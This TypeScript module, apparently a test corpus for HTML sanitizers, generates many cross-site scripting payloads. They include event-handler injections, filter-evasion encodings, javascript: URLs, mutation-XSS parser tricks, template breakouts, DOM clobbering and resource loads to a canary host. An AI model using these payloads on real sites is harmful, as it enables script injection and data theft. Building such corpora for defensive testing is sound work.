import { payloads } from './hostile-leads.ts'

/** What is to run or be loaded; never twice the same, so that what ran can be told. */
let told = 0
const run = () => `alert(${100 + ++told})`
const load = () => `//canary.invalid/${++told}`

/** Elements that run something by themselves, or as soon as somebody touches them. */
const events = [
  ...[
    'img src=x',
    'image src=x',
    'input type=image src=x',
    'video src=x',
    'audio src=x',
    'script src=x',
    'link rel=stylesheet href=x',
    'object data=x',
    'embed src=x',
  ].map((element) => () => `<${element} onerror=${run()}>`),
  ...['svg', 'body', 'iframe', 'style', 'frameset', 'table background=x'].map(
    (element) => () => `<${element} onload=${run()}>`,
  ),
  ...['select', 'textarea', 'button', 'a href=# ', 'div tabindex=0 contenteditable'].map(
    (element) => () => `<${element} autofocus onfocus=${run()}>`,
  ),
  ...['animate', 'set', 'animateTransform', 'animateMotion'].map(
    (element) => () => `<svg><${element} attributeName=x dur=1s onbegin=${run()}>`,
  ),
  ...[
    'onmouseover',
    'onpointerenter',
    'onwheel',
    'onanimationstart',
    'ontransitionrun',
    'onbeforetoggle',
    'onscrollsnapchange',
    'onpaste',
  ].map((event) => () => `<b ${event}=${run()} style="animation:x 1s" popover>x</b>`),
]

/** Ways to write the same so that a filter looks past it. */
const disguises: (() => string)[] = [
  () => `<IMG SRC=x OnErRoR=${run()}>`,
  () => `<img/src=x/onerror=${run()}>`,
  () => `<img\tsrc=x\tonerror\t=\t${run()}>`,
  () => `<img src=x onerror="${run()}"`,
  () => `<<img src=x onerror=${run()}>`,
  () => `<img src='x' onerror='${run()}'//`,
  () => `<img src=x onerror=\`${run()}\`>`,
  () => `<img src=x onerror=&#97;lert(${++told})>`,
  () => `<img src=x:x onerror=window['al'+'ert'](${++told})>`,
  () => `<scr<script>ipt>${run()}</scr</script>ipt>`,
  () => `<script\n>${run()}</script\n>`,
  () => `<script/x>${run()}</script>`,
  () => `<svg/onload=${run()}//`,
  () => `< img src=x onerror=${run()}>`,
  () => `\u200c<img src=x onerror=${run()}>\u200d`,
  () => `＜script＞${run()}＜/script＞`,
  () => `+ADw-script+AD4-${run()}+ADw-/script+AD4-`,
  () => `&#x3C;script&#x3E;${run()}&#x3C;/script&#x3E;`,
  () => `%253Cscript%253E${run()}%253C/script%253E`,
  () => `\\x3cscript\\x3e${run()}\\x3c/script\\x3e`,
]

/** Addresses that run something. */
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  '&#106;avascript:',
  'javascript&colon;',
  'vbscript:',
  'view-source:javascript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
].flatMap((scheme) => [() => `<a href="${scheme}${run()}">look</a>`, () => `${scheme}${run()}`])

/** What asks somebody else for something. */
const loads = [
  ...[
    'img srcset=',
    'input type=image src=',
    'video poster=',
    'audio src=',
    'track src=',
    'script src=',
    'iframe src=',
    'frame src=',
    'embed src=',
    'object data=',
    'body background=',
    'link rel=preload as=image href=',
    'link rel=prefetch href=',
    'link rel=dns-prefetch href=',
    'link rel=manifest href=',
    'link rel=icon href=',
    'a ping=',
  ].map((element) => () => `<${element}${load()}>`),
  () => `<picture><source srcset=${load()}><img></picture>`,
  () => `<svg><image href=${load()} /></svg>`,
  () => `<svg><use href=${load()}#x /></svg>`,
  () => `<svg><feImage href=${load()} /></svg>`,
  () => `<div style="background:url(${load()})">x</div>`,
  () => `<style>*{background:url(${load()})}</style>`,
  () => `<style>@font-face{font-family:x;src:url(${load()})}</style>`,
  () => `![a picture](https:${load()})`,
  () => `[[https:${load()}]]`,
  () => `=IMAGE("https:${load()}")`,
]

/** What becomes something else when it is written out and read again. */
const mutations: (() => string)[] = [
  () => `<svg></p><style><a id="</style><img src=1 onerror=${run()}>">`,
  () => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run()}>">`,
  () => `<template><img src=x onerror=${run()}></template>`,
  () => `<xmp><p title="</xmp><img src=x onerror=${run()}>">`,
  () => `<plaintext><img src=x onerror=${run()}>`,
  () => `<textarea><img title="</textarea><img src=x onerror=${run()}>">`,
  () => `<title><img title="</title><img src=x onerror=${run()}>">`,
  () => `<!--><img src=x onerror=${run()}>-->`,
  () => `<![CDATA[><img src=x onerror=${run()}>]]>`,
  () => `<?xml-stylesheet href="javascript:${run()}"?>`,
  () => `<!ENTITY x SYSTEM "http:${load()}">`,
  () => `<select><template shadowrootmode=open><img src=x onerror=${run()}></template></select>`,
  () => `<svg><foreignObject><iframe srcdoc="<img src=x onerror=${run()}>">`,
]

/** What a template, a script or a line of JSON might be ended with. */
const breakouts: (() => string)[] = [
  () => `';${run()}//`,
  () => `\\";${run()}//`,
  () => `*/${run()}/*`,
  () => `</script><script>${run()}</script>`,
  () => `"}</script><img src=x onerror=${run()}>`,
  () => `\u2028${run()}\u2029`,
  () => `{{${run()}}}`,
  () => `{{{${run()}}}}`,
  () => `<%= ${run()} %>`,
  () => `#{${run()}}`,
  () => `{% include "http:${load()}" %}`,
  () => `[[\${${run()}}]]`,
  () => `<div id=admin_access_token><a id=location href=${load()}>`,
  () => `<form name=document><input name=cookie>`,
  () => `__proto__[onload]=${run()}`,
]

const kinds = [events, disguises, schemes, loads, mutations, breakouts]

/** Texts that run something, or ask somebody else for something, wherever they are not taken for plain text. */
export const hostileTexts: readonly string[] = [...payloads, ...kinds.flatMap((makers) => makers.map((make) => make()))]
